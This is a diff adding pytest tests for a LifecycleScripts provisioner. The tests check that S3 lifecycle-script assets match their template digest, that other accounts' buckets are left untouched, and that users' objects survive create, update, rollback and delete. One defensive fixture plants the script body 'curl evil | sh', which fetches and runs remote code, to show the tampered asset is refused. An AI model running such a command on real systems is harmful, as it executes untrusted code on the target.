@@ -5,10 +5,11 @@ from typing import Any
 
 import pytest
 
+from hyperpod_shared.content import content_digest
 from hyperpod_shared.errors import ProvisioningError
 from provisioner.framework.operation import GivenUpError
 from provisioner.lifecycle_scripts import LifecycleScripts
-from tests.support.provisioner.cloudformation import Framework, Time
+from tests.support.provisioner.cloudformation import OTHER_STACK_ID, Framework, Time
 from tests.support.provisioner.fake_s3 import FakeS3, client_error, zipped
 
 BUCKET = "sagemaker-ml"
@@ -20,6 +21,7 @@ def properties(*keys: str, source: str = "one.zip", bucket: str = BUCKET) -> dic
         "SourceKey": source,
         "SourceDigest": source,
         "DestinationBucket": bucket,
+        "DestinationOwner": "deployment",
         "Keys": json.dumps(keys),
     }
 
@@ -191,3 +193,169 @@ def test_bad_requests_change_nothing(
     with pytest.raises(ProvisioningError, match=message):
         stack.create({**properties("on_create.sh"), **change})
     assert s3.puts == []
+
+
+DIGEST = content_digest(["on_create.sh"], read=lambda _: b"#!/bin/sh\n")
+
+
+def test_an_asset_that_holds_something_else_is_refused(stack: Framework, s3: FakeS3) -> None:
+    wanted = properties("on_create.sh") | {"SourceDigest": DIGEST}
+    stack.create(wanted)
+    stored = list(s3.buckets[BUCKET])
+
+    for planted in ({"on_create.sh": b"curl evil | sh\n"}, {"on_create.sh": b"", "x": b""}):
+        s3.add("assets", "one.zip", zipped(planted))
+        with pytest.raises(ProvisioningError) as refused:
+            stack.update(wanted | {"Files": json.dumps({"deployment.env": "A=1\n"})})
+        assert str(refused.value).startswith(
+            "The asset s3://assets/one.zip is not what the template was made with, and is not "
+            "used: the content has the digest sha256:"
+        )
+        assert f"the template names {DIGEST}. Find out who wrote it" in str(refused.value)
+        assert "delete it with `aws s3 rm s3://assets/one.zip`, then deploy" in str(refused.value)
+    assert s3.buckets[BUCKET] == stored
+
+
+def test_a_bucket_of_another_account_is_neither_read_nor_written(
+    stack: Framework, s3: FakeS3
+) -> None:
+    s3.account = "999999999999"
+    with pytest.raises(ProvisioningError, match="AccessDenied"):
+        stack.create(properties("on_create.sh"))
+    assert s3.puts == []
+
+
+def of_user(*keys: str, prefix: str = "hyperpod/ml", **changes: str) -> dict[str, Any]:
+    """Return properties for a bucket of the user's."""
+    return properties(*keys) | {"DestinationOwner": "user", "Prefix": prefix} | changes
+
+
+def test_what_the_user_has_in_a_bucket_survives_create_update_and_destroy(
+    stack: Framework, s3: FakeS3
+) -> None:
+    for body in (b"theirs, first", b"theirs, second"):
+        s3.add(BUCKET, "on_create.sh", body)
+    theirs = list(s3.buckets[BUCKET])
+    stack.create(of_user("on_create.sh", "lib/disk.sh"))
+    stack.update(of_user("on_create.sh", SourceKey="two.zip"))
+    # Under a key of the deployment's, one after it: over its script, and gone again.
+    s3.add(BUCKET, "hyperpod/ml/on_create.sh", b"theirs, by hand")
+    s3.add(BUCKET, "hyperpod/ml/on_create.sh", None)
+    theirs += s3.buckets[BUCKET][-2:]
+    stack.update(of_user("on_create.sh"))
+    assert s3.buckets[BUCKET][-1].body == b"#!/bin/sh\n"
+
+    assert stack.delete().complete
+    assert s3.buckets[BUCKET] == theirs
+
+
+def test_an_object_of_others_is_refused_and_stays(stack: Framework, s3: FakeS3) -> None:
+    s3.add(BUCKET, "hyperpod/ml/lib/disk.sh", b"theirs")
+    stored = list(s3.buckets[BUCKET])
+
+    with pytest.raises(ProvisioningError) as refused:
+        stack.create(of_user("on_create.sh", "lib/disk.sh"))
+    assert str(refused.value) == (
+        "The bucket sagemaker-ml has an object hyperpod/ml/lib/disk.sh that is not of this "
+        "deployment: it stays as it is. Set lifecycle_scripts.prefix to one that holds nothing, or "
+        "move the object away (`aws s3 mv s3://sagemaker-ml/hyperpod/ml/lib/disk.sh ...`), then "
+        "deploy again."
+    )
+    assert s3.buckets[BUCKET] == stored
+
+    # One that is deleted is not in the way; its versions stay.
+    s3.add(BUCKET, "hyperpod/ml/lib/disk.sh", None)
+    stored = list(s3.buckets[BUCKET])
+    stack.create(of_user("on_create.sh", "lib/disk.sh"))
+    assert stack.delete().complete
+    assert s3.buckets[BUCKET] == stored
+
+
+def test_an_update_refuses_what_is_new_to_it_and_a_rollback_nothing(
+    stack: Framework, s3: FakeS3
+) -> None:
+    stack.create(of_user("on_create.sh"))
+    s3.add(BUCKET, "hyperpod/ml/README", b"theirs")
+    with pytest.raises(ProvisioningError, match="object hyperpod/ml/README that is not of this"):
+        stack.update(of_user("on_create.sh", "README"))
+
+    stack.cloudformation.status = "UPDATE_ROLLBACK_IN_PROGRESS"
+    rollback = stack.begin("Update", of_user("on_create.sh"), of_user("on_create.sh", "README"))
+    stack.time.sleep(30)
+    assert rollback.poll().complete
+    assert s3.bodies(BUCKET, "hyperpod/ml/README") == [b"theirs"]
+
+
+def test_a_create_that_runs_twice_finds_its_own(stack: Framework, s3: FakeS3) -> None:
+    stack.create(of_user("on_create.sh"))
+    again = stack.begin("Create", of_user("on_create.sh"))
+    assert again.poll().complete
+    assert s3.bodies(BUCKET, "hyperpod/ml/on_create.sh") == [b"#!/bin/sh\n"] * 2
+    assert stack.delete().complete
+    assert s3.keys(BUCKET) == []
+
+
+def test_two_deployments_in_one_bucket_leave_each_other_alone(stack: Framework, s3: FakeS3) -> None:
+    other = Framework(
+        resource=LifecycleScripts(s3=s3),
+        resource_type="Custom::LifecycleScripts",
+        time=Time(),
+        stack_id=OTHER_STACK_ID,
+    )
+    stack.create(of_user("on_create.sh"))
+    with pytest.raises(ProvisioningError, match="not of this deployment"):
+        other.create(of_user("on_create.sh"))
+    other.create(of_user("on_create.sh", prefix="hyperpod/other"))
+    assert stack.delete().complete
+    assert s3.keys(BUCKET) == ["hyperpod/other/on_create.sh"]
+    assert other.delete().complete
+    assert s3.keys(BUCKET) == []
+
+
+def test_what_a_former_version_put_is_not_taken_for_ones_own(stack: Framework, s3: FakeS3) -> None:
+    former = properties("on_create.sh", "README")
+    del former["DestinationOwner"]
+
+    # At the top of a bucket of the user's: running nodes' groups still name it.
+    stack.create(former)
+    s3.add(BUCKET, "on_create.sh", b"theirs")
+    stack.update(of_user("on_create.sh"))
+    assert stack.begin("Delete", former).poll().complete  # CloudFormation's, afterwards
+    assert s3.keys(BUCKET) == ["README", "hyperpod/ml/on_create.sh", "on_create.sh"]
+
+    # Where they stay, they are known from the request that put them.
+    s3.buckets[BUCKET] = []
+    stack.create(former | {"Prefix": "hyperpod/ml"})
+    stack.update(of_user("on_create.sh", "lib/disk.sh"))
+    assert s3.keys(BUCKET) == [
+        "hyperpod/ml/README",
+        "hyperpod/ml/lib/disk.sh",
+        "hyperpod/ml/on_create.sh",
+    ]
+
+
+@pytest.mark.parametrize("prefix", [{}, {"Prefix": "a"}], ids=["in place", "moved"])
+def test_what_a_former_version_put_into_the_deployments_bucket_goes_with_it(
+    stack: Framework, s3: FakeS3, prefix: dict[str, str]
+) -> None:
+    former = properties("on_create.sh", "README")
+    del former["DestinationOwner"]
+    stack.create(former)
+    stack.update(properties("on_create.sh") | prefix)
+    assert stack.delete().complete
+    assert s3.keys(BUCKET) == []
+
+
+def test_a_rollback_to_a_former_version_needs_no_right_that_it_lacks(
+    stack: Framework, s3: FakeS3
+) -> None:
+    former = properties("on_create.sh")
+    del former["DestinationOwner"]
+    stack.create(former)
+    stack.update(properties("on_create.sh", "README"))
+    stack.cloudformation.status = "UPDATE_ROLLBACK_IN_PROGRESS"
+    rollback = stack.begin("Update", former, properties("on_create.sh", "README"))
+    stack.time.sleep(30)
+    assert rollback.poll().complete
+    assert s3.keys(BUCKET) == ["on_create.sh"]
+    assert not any(version.tags for version in s3.buckets[BUCKET])
